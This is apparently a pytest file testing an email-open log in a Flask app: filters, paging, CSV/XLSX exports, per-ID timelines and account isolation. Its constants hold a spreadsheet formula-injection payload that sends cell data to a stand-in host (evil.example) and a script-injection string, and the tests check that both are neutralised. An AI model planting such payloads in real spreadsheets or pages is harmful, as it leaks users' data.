"""The log of opens, its filters, numbers and exports, and the timeline of one id."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import quote
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from markupsafe import escape
from sqlalchemy import insert, select
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from app.accounts.models import AuditEntry
from app.core import clock
from app.core.db import begin_write, db
from app.core.ids import uuid7
from app.core.models import Job, JobState
from app.core.rollup import hour_of
from app.core.runtime import runtime
from app.opens.log import number, reading
from app.opens.log.filters import NAMES, Filters, Kind, from_json, from_url
from app.opens.mailings.models import MailedId, Mailing
from app.opens.models import COUNTED, NO_IMAGE, Open
from app.opens.rules.words import class_word, device_word, reason_words
from tests.jobs import run_jobs
from tests.opens.history import IMAGES, counts, made, random_rows, store
from tests.opens.opens_fixtures import upload
from tests.people import Browser, asking_again
from tests.spreadsheets import rows_of_xlsx

Rows = list[dict[str, Any]]
HOUR, DAY = timedelta(hours=1), timedelta(days=1)
SAO_PAULO = ZoneInfo("America/Sao_Paulo")
EVIL = '=HYPERLINK("http://evil.example?"&A1)'
SCRIPT = "<script>alert(1)</script>"
on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
HEAD = [
    "Data e hora", "ID", "Imagem", "Arquivo", "Classe", "Motivo", "Conta", "Primeira abertura", "Programa de e-mail",
    "Dispositivo", "Endereço IP", "Carregamentos", "Página de origem", "User agent", "Versão das regras",
]  # fmt: skip


def fits(row: dict[str, Any], wanted: Filters) -> bool:
    """The filters in words of their own."""
    classes = wanted.kind.classes if wanted.kind else {str(each) for each in COUNTED}
    adds = row["is_view"] and row["class"] in classes
    return all(
        (
            wanted.start is None or row["created_at"] >= wanted.start,
            wanted.end is None or row["created_at"] < wanted.end,
            wanted.kind is None or row["class"] in wanted.kind.classes,
            wanted.counted is None or adds == wanted.counted,
            not wanted.first or row["is_first"],
            wanted.ref in (None, row["ref"]),
            wanted.image in (None, row["image_id"]),
            wanted.file in (None, row["file"]),
            wanted.client in (None, row["client"]),
            wanted.device in (None, row["device"]),
        )
    )


def all_of(session: Session, account_id: UUID, wanted: Filters, limit: int) -> list[UUID]:
    """Page by page."""
    seen: list[UUID] = []
    after: str | None = None
    while True:
        found = reading.search(session, account_id, wanted, after=after, limit=limit)
        seen += [line.open.id for line in found.rows]
        if (after := found.next) is None:
            return seen


def test_every_filter_finds_its_opens_newest_first_and_knows_their_number(app: Flask, admin: Browser) -> None:
    own, end = admin.person.account_id, hour_of(clock.now())
    rows = store(runtime(app).engine, random_rows(own, end - 9 * DAY, end, 160))
    rare = made(own, end - 5 * DAY, "RARE", kind="bot", client="Rare", device="tablet", image_id=IMAGES[2])
    rows = sorted([*rows, *store(runtime(app).engine, [rare])], key=lambda row: (row["created_at"], row["id"]))
    whole: dict[str, Any] = {"start": end - 6 * DAY, "end": end - 2 * DAY}
    odd: dict[str, Any] = {"start": end - 6 * DAY + timedelta(minutes=7), "end": end - timedelta(minutes=3)}
    cases = [
        Filters(), Filters(**whole), Filters(**odd), Filters(ref="FAT7"), Filters(ref="FAT7", **whole),
        Filters(ref="nobody"), Filters(file="logo.png"), Filters(file="x.png"), Filters(client="Rare"),
        Filters(device="tablet", **odd), Filters(image=NO_IMAGE), Filters(image=IMAGES[1], client="Gmail", **whole),
        Filters(first=True), Filters(first=True, kind=Kind.BOT), Filters(client="Nobody"),
        *(Filters(kind=kind) for kind in Kind),
        *(Filters(counted=each, kind=kind, **whole) for each in (True, False) for kind in (None, *Kind)),
        Filters(counted=True, client="Apple Mail", device="phone", **odd),
    ]  # fmt: skip
    with Session(runtime(app).engine) as session:
        for wanted in cases:
            fitting = [row["id"] for row in reversed(rows) if fits(row, wanted)]
            for limit in (30, 1_000):
                assert all_of(session, own, wanted, limit) == fitting, wanted
            assert number.number_of(session, own, wanted) == (len(fitting), False), wanted
            assert from_json(wanted.to_json()) == wanted


def test_the_number_counts_only_what_is_kept(app: Flask, admin: Browser) -> None:
    """The figures remember more."""
    own, end = admin.person.account_id, hour_of(clock.now())
    store(runtime(app).engine, random_rows(own, end - 9 * DAY, end, 200))
    table: Any = Open.__table__
    with begin_write(runtime(app).engine) as connection:
        connection.execute(table.delete().where(table.c.created_at < end - 5 * DAY + timedelta(minutes=25)))
        kept = connection.execute(select(table.c["class"])).scalars().all()
    with Session(runtime(app).engine) as session:
        assert number.number_of(session, own, Filters()) == (len(kept), False)
        assert number.number_of(session, own, Filters(kind=Kind.BOT)) == (kept.count("bot"), False)
        assert number.number_of(session, own, Filters(start=end - 20 * DAY, end=end - 7 * DAY)) == (0, False)


@pytest.mark.parametrize(
    ("given", "problem"),
    [
        ({"from": "x"}, "from"), ({"to": "2026-13-01"}, "to"), ({"from": "2026-11-20", "to": "2026-11-19"}, "from"),
        ({"class": "human\0"}, "class"), ({"image": "1"}, "image"), ({"counted": "yes"}, "counted"),
        ({"first": "0"}, "first"), ({"client": "x" * 200}, "client"), ({"device": "a\tb"}, "device"),
        ({"file": "x" * 300}, "file"), ({"ref": "\x01"}, "ref"),
    ],
)  # fmt: skip
def test_what_no_open_can_be_is_named(given: dict[str, str], problem: str) -> None:
    assert list(from_url(given, SAO_PAULO).problems) == [problem]


def test_a_url_is_read_on_the_clock_of_the_reader() -> None:
    found = from_url({"from": "2026-11-20", "to": "2026-11-20", "file": "LOGO.png", "class": "people"}, SAO_PAULO)
    assert found.problems == {}
    assert found.filters.start == datetime(2026, 11, 20, tzinfo=SAO_PAULO)
    assert found.filters.end == datetime(2026, 11, 21, tzinfo=SAO_PAULO)
    assert (found.filters.file, found.filters.kind) == ("logo.png", Kind.PEOPLE)
    assert from_url(dict.fromkeys(NAMES, " "), SAO_PAULO).filters == Filters()


def shown(answer: TestResponse) -> list[str]:
    assert answer.status_code == 200, answer.text
    return re.findall(r'id="open-([0-9a-f]{32})"', answer.text)


@on_sqlite
def test_the_page_shows_the_opens_with_the_reason_in_words(app: Flask, viewer: Browser, other_account: Any) -> None:
    own, at = viewer.person.account_id, clock.now() - HOUR
    image = upload(app, own, "logo.png")
    rows = store(
        runtime(app).engine,
        [
            made(own, at, "FAT001", kind="image_proxy", client="Gmail", device="unknown", hits=3, image_id=image),
            made(own, at + timedelta(seconds=2), "FAT001", is_view=False, file="other.gif"),
            made(own, at + timedelta(seconds=9), SCRIPT, kind="bot", client="Robot", device="unknown"),
            made(other_account.account_id, at + timedelta(seconds=1), "THEIRS"),
        ],
    )
    with app.test_request_context():
        reasons = [str(escape(reason_words(reason))) for reason in ("gmail_proxy", "crawler:Googlebot")]
    answer = viewer.get("/opens/log")
    first, _theirs, further, robot = (row["id"].hex for row in sorted(rows, key=lambda row: row["id"]))
    assert shown(answer) == [robot, further, first]
    for words in (
        "3 aberturas", "Mais uma imagem da mesma abertura", "Primeira abertura",
        "203.0.113.0", *reasons, "&lt;script&gt;alert(1)", "ref=FAT001",
    ):  # fmt: skip
        assert words in answer.text, words
    assert SCRIPT not in answer.text
    assert "THEIRS" not in answer.text
    assert shown(viewer.get("/opens/log?class=bot")) == [robot]
    assert shown(viewer.get(f"/opens/log?image={image}&counted=1")) == [first]
    assert "Nenhum resultado possível" in viewer.get("/opens/log?image=x").text
    assert shown(viewer.get(f"/opens/log?{'&'.join(f'{name}=' for name in NAMES)}&after=nonsense")) == shown(answer)
    assert viewer.get("/opens/log", headers=asking_again(answer.text, "/opens/log")).status_code == 204


@on_sqlite
def test_pages_follow_each_other_and_the_number_is_right(app: Flask, viewer: Browser) -> None:
    own, now = viewer.person.account_id, clock.now()
    rows = store(runtime(app).engine, random_rows(own, now - 30 * DAY, now, 1_250))
    url, seen = "/opens/log?limit=200", []
    for _page in range(3):
        answer = viewer.get(url)
        assert "1.250 aberturas" in answer.text
        seen += shown(answer)
        following = re.search(r'href="([^"]+after=[^"]+)"[^>]*aria-label="Próxim', answer.text)
        assert following is not None
        url = following[1].replace("&amp;", "&")
    assert seen == [row["id"].hex for row in reversed(rows)][:600]
    counted = sum(map(counts, rows))
    assert f"{counted:,} aberturas".replace(",", ".") in viewer.get("/opens/log?counted=1").text


def table(answer: TestResponse) -> list[list[str]]:
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=aberturas.csv")
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_file_holds_exactly_the_filtered_rows(app: Flask, viewer: Browser) -> None:
    own, now = viewer.person.account_id, clock.now()
    store(runtime(app).engine, random_rows(own, now - 3 * DAY, now, 300))
    query = {"class": "image_proxy", "device": "phone", "counted": "1"}
    listed = [re.sub("-", "", str(line.open.id)) for line in _all_lines(app, own, from_url(query, SAO_PAULO).filters)]
    assert shown(viewer.get("/opens/log", query_string=query | {"limit": "200"})) == listed
    head, *rows = table(viewer.submit("/opens/log/export", {"format": "csv", **query}))
    assert head == HEAD
    assert [row[1] for row in rows] == [
        line.open.ref for line in _all_lines(app, own, from_url(query, SAO_PAULO).filters)
    ]
    with app.app_context():
        entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "opens.exported")).one()
        assert entry.changes is not None
        assert entry.changes["rows"] == [None, len(listed)]
        assert entry.user_id == viewer.person.id
        assert db.session.query(Job).count() == 0


def _all_lines(app: Flask, account_id: UUID, wanted: Filters) -> list[reading.Line]:
    with Session(runtime(app).engine) as session:
        found = reading.search(session, account_id, wanted, limit=1_000).rows
        session.expunge_all()
        return found


@on_sqlite
def test_a_row_says_all_that_is_known_and_no_cell_is_a_formula(app: Flask, admin: Browser) -> None:
    own, at = admin.person.account_id, hour_of(clock.now()) - HOUR
    row = made(own, at, EVIL, file=EVIL, referer=EVIL, agent=EVIL, client="Gmail", device="phone", hits=2)
    store(runtime(app).engine, [row])
    with app.test_request_context():
        kind, reason, device = class_word("human"), reason_words("no_rule"), device_word("phone")
    cells = table(admin.submit("/opens/log/export", {"format": "csv"}))[1]
    assert cells == [
        f"{at.astimezone(SAO_PAULO):%Y-%m-%d %H:%M:%S}", f"'{EVIL}", "", f"'{EVIL}", kind,
        reason, "Sim", "Sim", "Gmail", device, "203.0.113.0", "2", f"'{EVIL}", f"'{EVIL}", "1.0",
    ]  # fmt: skip
    sheet = rows_of_xlsx(admin.submit("/opens/log/export", {"format": "xlsx"}).data)[1]
    assert sheet.count(f"'{EVIL}") == 4
    assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")) for cell in [*cells, *sheet])
    for form in ({"format": "pdf"}, {"format": "csv", "class": "nobody"}):
        assert admin.submit("/opens/log/export", form).headers["Location"].endswith("/opens/log")


def test_more_than_a_thousand_rows_are_made_by_a_worker(app: Flask, manager: Browser) -> None:
    own, now = manager.person.account_id, clock.now()
    rows = store(runtime(app).engine, random_rows(own, now - 30 * DAY, now, 1_500))
    wanted = [row for row in rows if row["class"] != "bot" and row["class"] != "prefetch"]
    answer = manager.submit("/opens/log/export", {"format": "csv", "class": "people"})
    assert answer.status_code == 303
    assert run_jobs(app) == 1
    with app.app_context():
        job = db.session.scalars(select(Job)).one()
        assert (job.state, job.total, job.done) == (JobState.DONE, len(wanted), len(wanted))
        assert job.created_by == manager.person.id
    page = manager.get(answer.headers["Location"])
    assert f"{len(wanted):,} aberturas".replace(",", ".") in page.text
    link = re.search(r'href="(/jobs/[^"]+/file)"', page.text)
    assert link is not None
    assert len(table(manager.get(link[1]))) == len(wanted) + 1


@on_sqlite
def test_one_id_has_its_figures_its_mailings_and_its_opens(app: Flask, viewer: Browser) -> None:
    own, at = viewer.person.account_id, hour_of(clock.now()) - 5 * HOUR
    ref = "FAT/1 & <b>"
    store(
        runtime(app).engine,
        [
            made(own, at, ref, kind="prefetch", client="Apple Mail", device="unknown", agent="Mozilla/5.0"),
            made(own, at + HOUR, ref, client="Thunderbird", device="computer", hits=4, is_signed=True),
            made(own, at + 2 * HOUR, ref, is_cut=True),
        ],
    )
    mailing = _mailing(app, own, ref, at - HOUR, at + HOUR)
    page = viewer.get(f"/opens/ids/timeline?ref={quote(ref, safe='')}")
    for words in (
        "FAT/1 &amp; &lt;b&gt;", "Primeira abertura: ", "4 carregamentos", "Link assinado", "Mozilla/5.0",
        "versão 1.0 das regras", "Boletim &lt;i&gt;", f"/mailings/{mailing}", "aberto depois de 2 h",
    ):  # fmt: skip
        assert words in page.text, words
    assert "<b>" not in page.text.partition("opens-timeline")[2]
    assert page.text.count('class="timeline-event"') == 3


def _mailing(app: Flask, own: UUID, ref: str, sent_at: datetime, opened_at: datetime | None) -> UUID:
    id_, now = uuid7(), clock.now()
    row = {
        "id": id_, "account_id": own, "name": "Boletim <i>", "starts_at": sent_at, "ends_at": sent_at + DAY,
        "listed": 1, "created_at": now, "updated_at": now, "version": 1,
    }  # fmt: skip
    listed = {"account_id": own, "ref": ref, "mailing_id": id_, "sent_at": sent_at, "opened_at": opened_at}
    with begin_write(runtime(app).engine) as connection:
        connection.execute(insert(Mailing).values(**row))
        connection.execute(insert(MailedId).values(**listed))
    return id_


@on_sqlite
def test_an_id_that_nobody_knows_is_no_error(app: Flask, viewer: Browser, other_account: Any) -> None:
    store(runtime(app).engine, [made(other_account.account_id, clock.now() - HOUR, "THEIRS")])
    assert "Nada foi carregado com este ID ainda" in viewer.get("/opens/ids/timeline?ref=THEIRS").text
    assert "Qual ID?" in viewer.get("/opens/ids/timeline").text
    assert viewer.get("/opens/ids/timeline?ref=%00").status_code in (200, 400, 404)
    _mailing(app, viewer.person.account_id, "SENT", clock.now() - DAY, None)
    waiting = viewer.get("/opens/ids/timeline?ref=SENT")
    assert "ainda não aberto" in waiting.text
    long = viewer.get(f"/opens/ids/timeline?ref={'x' * 3000}")
    assert long.status_code == 200


@on_sqlite
def test_many_opens_of_an_id_are_paged(app: Flask, viewer: Browser) -> None:
    own, now = viewer.person.account_id, clock.now()
    store(runtime(app).engine, [made(own, now - n * timedelta(minutes=5), "MANY") for n in range(120)])
    url: str | None = "/opens/ids/timeline?ref=MANY"
    seen = []
    while url:
        text = viewer.get(url).text
        seen.append(text.count('class="timeline-event"'))
        following = re.search(r'href="([^"]+after=[^"]+)"[^>]*aria-label="Próxim', text)
        url = following[1].replace("&amp;", "&") if following else None
    assert seen == [50, 50, 20]


@on_sqlite
def test_who_is_not_signed_in_or_of_another_account_sees_nothing(
    app: Flask, anonymous: Browser, other_admin: Browser, admin: Browser, make_user: Callable[..., Any]
) -> None:
    own = admin.person.account_id
    store(runtime(app).engine, [made(own, clock.now() - HOUR, "OURS")])
    for path in ("/opens/log", "/opens/ids/timeline?ref=OURS"):
        assert "/login" in anonymous.get(path).headers["Location"]
        assert "203.0.113.0" not in other_admin.get(path).text
        assert "203.0.113.0" in admin.get(path).text
    assert len(table(other_admin.submit("/opens/log/export", {"format": "csv"}))) == 1


@on_sqlite
def test_an_export_of_one_id_is_no_job_whose_parameters_would_tell_it(app: Flask, viewer: Browser) -> None:
    own, now = viewer.person.account_id, clock.now()
    rows = random_rows(own, now - 30 * DAY, now, 1_100)
    store(runtime(app).engine, [row | {"ref": "ana@example.com"} for row in rows])
    answer = viewer.submit("/opens/log/export", {"format": "csv", "ref": "ana@example.com"})

    assert answer.status_code == 200
    assert len(table(answer)) == len(rows) + 1
